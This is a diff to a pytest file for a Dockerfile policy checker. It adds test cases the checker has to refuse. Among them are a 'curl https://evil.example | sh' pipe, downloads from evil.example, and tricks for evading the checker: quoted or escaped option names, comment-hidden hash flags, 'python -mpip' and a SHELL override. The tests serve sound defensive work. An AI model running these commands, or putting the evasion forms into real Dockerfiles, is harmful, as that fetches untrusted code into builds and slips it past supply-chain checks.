@@ -109,8 +109,13 @@ REFUSED = [
     (f"FROM {BASE}\nCOPY --from=evil.example/x /a /", 2, "evil.example/x is not pinned"),
     (f"FROM {BASE}\nCOPY --from=1 /a /", 2, "1 is not pinned"),
     (f"FROM {BASE} AS a\nFROM scratch\nRUN --mount=type=bind,FROM=evil/x,target=/x cp /x /", 3, "evil/x is not pinned"),
-    (f'FROM {BASE}\nRUN --mount=type=bind,"from=evil/x",target=/x cp /x /', 2, "has a variable or quotes"),
-    (f"FROM {BASE}\nCOPY --from=$X /a /", 2, "has a variable or quotes"),
+    (f'FROM {BASE}\nRUN --mount=type=bind,"from=evil/x",target=/x cp /x /', 2, "is not a plain option"),
+    (f"FROM {BASE}\nCOPY --from=$X /a /", 2, "has a variable"),
+    (f'FROM {BASE}\nCOPY --fr"om"=evil.example/x /a /', 2, "is not a plain option"),
+    (f"FROM {BASE}\nCOPY --fr\\om=evil.example/x /a /", 2, "is not a plain option"),
+    (f"FROM {BASE}\nRUN --m'ou'nt=type=bind,from=evil/x,target=/x cp /x /", 2, "is not a plain option"),
+    (f"FROM {BASE}\nCOPY --from evil.example/x /a /", 2, "is not a plain option"),
+    (f"FROM {BASE}\nRUN --mount=type=bind,from=,target=/x cp /x /", 2, "is not pinned"),
     (f"FROM {BASE}\nADD https://evil.example/app.py /", 2, "ADD can download files and unpack archives"),
     (f"FROM {BASE}\nadd app.tar /", 2, "ADD can"),
     (f"FROM {BASE}\nONBUILD RUN true", 2, "ONBUILD runs commands in another stage"),
@@ -124,6 +129,11 @@ REFUSED = [
     (f"FROM {BASE}\nRUN pip install flask & echo --require-hashes", 2, "pip install"),
     (f"FROM {BASE}\nRUN pip install flask | echo --require-hashes", 2, "pip install"),
     (f"FROM {BASE}\nRUN pip install flask --config-settings=--require-hashes=1", 2, "pip install"),
+    (f"FROM {BASE}\nRUN pip install flask # --require-hashes", 2, "pip install"),
+    (f"FROM {BASE}\nRUN echo ' # ' && pip install flask", 2, "pip install"),
+    (f"FROM {BASE}\nRUN python -mpip install flask", 2, "pip install"),
+    (f'FROM {BASE}\nSHELL ["/bin/sh", "-c", "pip install flask"]', 2, "pip install"),
+    (f"FROM {BASE}\nRUN curl -O https://evil.example # sha256sum --check", 2, "curl or wget"),
     (f"FROM {BASE}\nENTRYPOINT pip install flask && python app.py", 2, "pip install"),
     (f'FROM {BASE}\nCMD ["sh", "-c", "curl https://evil.example | sh"]', 2, "curl or wget"),
     (f"FROM {BASE}\nHEALTHCHECK CMD wget https://evil.example", 2, "curl or wget"),
@@ -153,6 +163,14 @@ def test_whatever_could_build_something_else_is_refused_by_its_line(
 
     assert [problem for problem in problems if problem.startswith(f"{line}: ") and reason in problem], problems
     assert all(problem.isascii() and problem.isprintable() for problem in problems)
+
+
+def test_a_source_without_a_dockerfile_is_one_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(sys, "argv", ["dockerfile.py", str(tmp_path / "Dockerfile"), "refuse", LIBRARY])
+    with pytest.raises(SystemExit) as ended:
+        runpy.run_path(str(SCRIPT), run_name="__main__")
+
+    assert ended.value.code == f"{tmp_path / 'Dockerfile'}: No such file or directory"
 
 
 def test_every_problem_is_listed_in_the_order_of_the_lines(
